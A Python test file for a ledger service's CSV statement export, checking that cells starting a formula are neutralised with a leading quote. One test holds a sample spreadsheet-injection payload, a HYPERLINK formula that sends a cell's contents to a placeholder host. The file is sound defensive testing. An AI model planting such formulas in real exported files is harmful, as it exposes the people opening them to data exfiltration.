"""Text from outside in the CSV answers is shown by a spreadsheet, never run as a formula: an
event id such as `=HYPERLINK(...)` in a statement opened by finance."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime

from hypothesis import given
from hypothesis import strategies as st

from ledger.queries import AccountBalance, StatementLine
from services.api.csv_answers import csv_chunks
from services.api.documents import STATEMENT_CSV_COLUMNS, statement_csv_row
from services.api.spreadsheet import FORMULA_STARTS, spreadsheet_text


@given(st.text(max_size=40))
def test_a_cell_that_would_start_a_formula_starts_with_a_quote_and_nothing_else_changes(
    value: str,
) -> None:
    cell = spreadsheet_text(value)
    if value.startswith(FORMULA_STARTS):
        assert cell == "'" + value
    else:
        assert cell == value


def test_a_statements_event_id_that_is_a_formula_is_written_as_text() -> None:
    account = AccountBalance(
        account_id=1,
        name="creator:c-1:DIAMOND:available",
        asset="DIAMOND",
        scale=3,
        kind="creator",
        creator_id="c-1",
        debits_posted=0,
        credits_posted=500,
        debits_pending=0,
        credits_pending=0,
    )
    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    line = StatementLine(
        seq=7,
        transfer_id=uuid.uuid4(),
        created_at=datetime(2026, 12, 7, tzinfo=UTC),
        code="gift_diamonds",
        event_id=hostile,
        counterparty="platform:DIAMOND:issued",
        debit=0,
        credit=500,
        pending=False,
        balance_after=500,
        pending_after=0,
    )
    written = "".join(csv_chunks(STATEMENT_CSV_COLUMNS, [statement_csv_row(account, line)]))
    [row] = list(csv.DictReader(io.StringIO(written)))
    assert row["event_id"] == "'" + hostile
    assert (row["credit"], row["balance_after"]) == ("500", "500")  # numbers as they are
